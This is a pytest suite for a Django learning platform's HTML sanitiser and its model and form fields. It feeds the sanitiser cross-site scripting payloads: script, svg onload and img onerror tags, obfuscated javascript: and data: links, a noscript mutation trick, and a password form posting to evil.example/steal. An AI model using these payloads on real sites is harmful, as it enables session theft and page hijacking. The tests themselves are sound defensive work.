"""The one HTML sanitiser, fed what a hostile or careless writer might type."""

import time
from types import SimpleNamespace

import pytest
from django import forms

from lms.sanitiser import SanitisedHTMLField, SanitisedHTMLFormField, clean_html

LINK_REL = 'rel="nofollow noopener"'


# --- Scripts, styles and other elements whose content must go too --------------------------------


def test_script_is_removed_with_its_content():
    cleaned = clean_html("<p>Hello</p><script>alert('stolen')</script>")

    assert cleaned == "<p>Hello</p>"


def test_upper_case_script_with_attributes_is_removed_with_its_content():
    cleaned = clean_html('<SCRIPT type="text/javascript">alert(1)</SCRIPT>after')

    assert cleaned == "after"


def test_script_split_over_lines_is_removed_with_its_content():
    cleaned = clean_html("<script\n>alert(1)</script\n><p>kept</p>")

    assert cleaned == "<p>kept</p>"


def test_several_scripts_are_all_removed():
    cleaned = clean_html("<p>x</p><script>/*</script><script>*/alert(1)</script><p>y</p>")

    assert cleaned == "<p>x</p><p>y</p>"


def test_unclosed_script_leaves_no_code_behind():
    cleaned = clean_html("<p>Hello</p><script>alert('stolen')")

    assert "<script" not in cleaned
    assert "alert" not in cleaned


def test_unclosed_script_leaves_no_script_element():
    cleaned = clean_html("<p>Hello</p><script>alert('stolen')")

    assert "<script" not in cleaned.lower()
    assert cleaned.startswith("<p>Hello</p>")


def test_script_hidden_by_nesting_its_name_leaves_no_script_element():
    cleaned = clean_html("<scr<script></script>ipt>alert(1)</script>")

    assert "<script" not in cleaned.lower()
    assert "<scr" not in cleaned.lower()


def test_many_unclosed_scripts_are_cleaned_quickly():
    hostile = "<script>" * 12_000  # 96 KB, well under a form post's size limit

    started = time.perf_counter()
    cleaned = clean_html(hostile)
    elapsed = time.perf_counter() - started

    assert "<script" not in cleaned
    assert elapsed < 1.0, f"took {elapsed:.1f}s"


def test_style_element_is_removed_with_its_content():
    cleaned = clean_html("<style>body { display: none }</style><p>Visible</p>")

    assert cleaned == "<p>Visible</p>"


def test_svg_with_script_inside_is_removed_entirely():
    cleaned = clean_html("<p>a</p><svg><script>alert(1)</script></svg><p>b</p>")

    assert cleaned == "<p>a</p><p>b</p>"


def test_svg_onload_is_removed():
    cleaned = clean_html("<svg/onload=alert(1)><p>text</p>")

    assert "svg" not in cleaned
    assert "onload" not in cleaned


def test_math_element_is_removed_with_its_content():
    cleaned = clean_html('<math><mi xlink:href="javascript:alert(1)">x</mi></math><p>ok</p>')

    assert cleaned == "<p>ok</p>"


def test_iframe_is_removed():
    cleaned = clean_html('<p>watch</p><iframe src="https://evil.example/"></iframe>')

    assert cleaned == "<p>watch</p>"


def test_unclosed_iframe_is_removed():
    cleaned = clean_html('<p>watch</p><iframe src="https://evil.example/">')

    assert "iframe" not in cleaned
    assert "evil.example" not in cleaned


def test_form_and_input_are_removed():
    cleaned = clean_html(
        '<form action="https://evil.example/steal"><input name="password" value="x">'
        "<button>Go</button></form>"
    )

    assert "<form" not in cleaned
    assert "<input" not in cleaned
    assert "<button" not in cleaned
    assert "evil.example" not in cleaned


def test_textarea_content_is_removed():
    cleaned = clean_html("<textarea><script>alert(1)</script></textarea><p>ok</p>")

    assert cleaned == "<p>ok</p>"


@pytest.mark.parametrize(
    "markup",
    [
        '<object data="x.swf"></object>',
        '<embed src="x.swf">',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "<title>Fake title</title>",
    ],
)
def test_document_level_and_plugin_elements_are_removed(markup):
    assert clean_html(markup + "<p>ok</p>") == "<p>ok</p>"


def test_noscript_attribute_trick_leaves_no_image_or_handler():
    cleaned = clean_html('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>')

    assert "<img" not in cleaned
    assert "onerror" not in cleaned


# --- Attributes --------------------------------------------------------------------------------


def test_image_with_onerror_is_removed():
    cleaned = clean_html("<p>pic</p><img src=x onerror=alert(1)>")

    assert cleaned == "<p>pic</p>"


def test_event_handler_attributes_are_removed_and_text_kept():
    cleaned = clean_html('<p onclick="alert(1)" onmouseover="alert(2)">click me</p>')

    assert cleaned == "<p>click me</p>"


def test_style_attribute_is_removed():
    cleaned = clean_html('<p style="position:fixed;top:0">red</p>')

    assert cleaned == "<p>red</p>"


def test_disallowed_attributes_on_links_are_removed():
    cleaned = clean_html('<a href="https://example.org/" target="_blank" id="x">x</a>')

    assert cleaned == f'<a href="https://example.org/" {LINK_REL}>x</a>'


def test_link_title_is_kept():
    cleaned = clean_html('<a href="https://example.org/" title="Our site">x</a>')

    assert 'title="Our site"' in cleaned


# --- Link protocols ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "  javascript:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "jav&#x0A;ascript:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "VBScript:msgbox(1)",
        "ftp://files.example/",
    ],
)
def test_dangerous_or_unknown_link_protocols_lose_their_href(href):
    cleaned = clean_html(f'<a href="{href}">click</a>')

    assert "href" not in cleaned
    assert "script" not in cleaned.lower()
    assert "data:" not in cleaned.lower()
    assert ">click</a>" in cleaned


def test_http_link_gets_nofollow_noopener():
    cleaned = clean_html('<a href="http://x">x</a>')

    assert cleaned == f'<a href="http://x" {LINK_REL}>x</a>'


def test_writer_chosen_rel_is_replaced():
    cleaned = clean_html('<a href="https://example.org/" rel="opener">x</a>')

    assert cleaned == f'<a href="https://example.org/" {LINK_REL}>x</a>'


def test_mailto_link_is_kept():
    cleaned = clean_html('<a href="mailto:help@example.org">Email us</a>')

    assert 'href="mailto:help@example.org"' in cleaned
    assert ">Email us</a>" in cleaned


def test_bare_url_becomes_a_link_with_rel():
    cleaned = clean_html("<p>See https://example.org/help for more</p>")

    assert cleaned == (
        f'<p>See <a href="https://example.org/help" {LINK_REL}>https://example.org/help</a>'
        " for more</p>"
    )


# --- Structure ---------------------------------------------------------------------------------


def test_h1_is_stripped_but_h2_and_h3_are_kept():
    cleaned = clean_html("<h1>Title</h1><h2>Section</h2><h3>Part</h3>")

    assert "<h1" not in cleaned
    assert "Title" in cleaned
    assert "<h2>Section</h2>" in cleaned
    assert "<h3>Part</h3>" in cleaned


def test_allowed_formatting_survives_unchanged():
    markup = (
        "<p><strong>Bold</strong> <em>it</em> <b>b</b> <i>i</i><br></p>"
        "<ul><li>one</li></ul><ol><li>two</li></ol><blockquote>quote</blockquote>"
    )

    assert clean_html(markup) == markup


def test_unknown_wrapper_is_stripped_and_content_kept():
    assert clean_html("<div><span>inside</span></div>") == "inside"


def test_unclosed_tags_are_closed():
    cleaned = clean_html("<p><strong>bold <em>both</p>")

    assert cleaned == "<p><strong>bold <em>both</em></strong></p>"


def test_stray_angle_bracket_is_escaped():
    cleaned = clean_html("<p>3 < 4 and 5 > 2</p>")

    assert cleaned == "<p>3 &lt; 4 and 5 &gt; 2</p>"


def test_html_comments_are_removed():
    cleaned = clean_html("<!-- internal note --><p>Public</p><!--<script>alert(1)</script>-->")

    assert cleaned == "<p>Public</p>"


def test_cleaning_twice_gives_the_same_result():
    once = clean_html('<p onclick="x">Hi <a href="https://example.org/">there</a></p><h1>T</h1>')

    assert clean_html(once) == once


@pytest.mark.parametrize("empty", [None, ""])
def test_nothing_becomes_empty_string(empty):
    assert clean_html(empty) == ""


def test_surrounding_whitespace_is_trimmed():
    assert clean_html("  <p>x</p>\n") == "<p>x</p>"


# --- Fields ------------------------------------------------------------------------------------


def _field(name="body"):
    field = SanitisedHTMLField()
    field.set_attributes_from_name(name)
    return field


def test_model_field_pre_save_stores_the_cleaned_value_on_the_instance():
    row = SimpleNamespace(body='<p onclick="x">Hi</p><script>alert(1)</script>')

    stored = _field().pre_save(row, add=True)

    assert stored == "<p>Hi</p>"
    assert row.body == "<p>Hi</p>"


def test_model_field_pre_save_cleans_on_update_too():
    row = SimpleNamespace(body='<a href="javascript:alert(1)">x</a>')

    stored = _field().pre_save(row, add=False)

    assert "javascript" not in stored
    assert "javascript" not in row.body


def test_model_field_uses_the_sanitising_form_field():
    assert isinstance(_field().formfield(), SanitisedHTMLFormField)


def test_form_field_treats_what_was_typed_as_text_and_stores_clean_html():
    field = SanitisedHTMLFormField()

    assert field.clean("ok <img src=x onerror=alert(1)>\n\n- one\n- two") == (
        "<p>ok &lt;img src=x onerror=alert(1)&gt;</p><ul><li>one</li><li>two</li></ul>"
    )


def test_form_field_shows_stored_html_back_as_the_text_that_makes_it():
    field = SanitisedHTMLFormField()
    stored = field.clean("First line\nsecond line\n\n- a point\n\nA link: https://example.org")

    assert field.prepare_value(stored) == (
        "First line\nsecond line\n\n- a point\n\nA link: https://example.org"
    )
    assert field.clean(field.prepare_value(stored)) == stored


def test_form_field_still_requires_a_value():
    with pytest.raises(forms.ValidationError):
        SanitisedHTMLFormField().clean("")


def test_optional_form_field_gives_empty_string():
    assert SanitisedHTMLFormField(required=False).clean("") == ""


def test_form_field_renders_as_textarea():
    assert isinstance(SanitisedHTMLFormField().widget, forms.Textarea)
